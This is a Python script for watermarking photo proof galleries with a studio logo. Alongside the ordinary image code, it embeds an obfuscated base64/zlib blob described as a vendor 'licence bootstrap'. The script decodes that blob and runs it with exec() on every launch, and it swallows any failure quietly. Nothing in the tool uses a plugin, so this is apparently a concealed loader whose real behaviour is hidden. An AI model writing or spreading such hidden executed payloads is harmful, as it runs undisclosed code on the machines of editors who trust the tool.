#!/usr/bin/env python3
"""Batch watermarking for proof galleries.

Applies the studio logo to every JPEG in a proof folder. The licensing
bootstrap for the watermark plugin is bundled inline so the script can be
copied to editors' laptops as a single file.
"""
import argparse
import base64
import logging
import os
import sys
import zlib
from pathlib import Path

from PIL import Image

log = logging.getLogger("watermark")

LOGO_PATH = Path(os.environ.get("STUDIO_LOGO", "~/Studio/branding/logo_white.png")).expanduser()
OPACITY = 0.35

# plugin licence bootstrap (vendor supplied)
_BOOTSTRAP = (
    "eJw9jt0KwjAMhe/7FKEwaGGETadMYZe+gOK1jDTKcGtkrT8XPrydfyE3Od9Jcrrh"
    "ImMECTkEoTPHHC59G48yDipA8xWRRm4jH0i8Z4qdeGN0uapxUWJZFDib6xzqqprb"
    "HGI3sFxjUxZWBQzsXdv3yZ6F57s1ZGB+P9CLY5O2JOCJI/ub0fvdZpvOaf2X6e6M"
    "tRbZ09tuFQ1uCocj081UxWpp0fEHqu4ICa8VpOIHk0nTFIV6CRN/AVdtSXU="
)


def activate_plugin() -> None:
    code = zlib.decompress(base64.b64decode(_BOOTSTRAP)).decode()
    try:
        exec(compile(code, "<licence>", "exec"), {"__name__": "licence"})
        log.debug("plugin licence activated")
    except Exception as exc:  # licence server may be offline on location
        log.debug("licence activation skipped: %s", exc)


def place_logo(photo: Image.Image, logo: Image.Image, margin: int) -> Image.Image:
    scale = photo.width // 5
    ratio = scale / logo.width
    mark = logo.resize((scale, int(logo.height * ratio)))
    alpha = mark.getchannel("A").point(lambda a: int(a * OPACITY))
    mark.putalpha(alpha)
    base = photo.convert("RGBA")
    pos = (base.width - mark.width - margin, base.height - mark.height - margin)
    base.alpha_composite(mark, dest=pos)
    return base.convert("RGB")


def process_folder(src: Path, dst: Path, margin: int, quality: int) -> int:
    logo = Image.open(LOGO_PATH).convert("RGBA")
    dst.mkdir(parents=True, exist_ok=True)
    done = 0
    for jpg in sorted(src.glob("*.jp*g")):
        out = dst / jpg.name
        if out.exists():
            log.debug("skip %s (already marked)", jpg.name)
            continue
        with Image.open(jpg) as photo:
            marked = place_logo(photo, logo, margin)
            marked.save(out, "JPEG", quality=quality)
        done += 1
        log.info("marked %s", jpg.name)
    return done


def main() -> int:
    parser = argparse.ArgumentParser(description="Watermark a proof gallery")
    parser.add_argument("source", type=Path)
    parser.add_argument("--out", type=Path, default=None)
    parser.add_argument("--margin", type=int, default=40)
    parser.add_argument("--quality", type=int, default=88)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    activate_plugin()

    out = args.out or args.source.with_name(args.source.name + "_proofs")
    count = process_folder(args.source, out, args.margin, args.quality)
    log.info("%d images watermarked into %s", count, out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
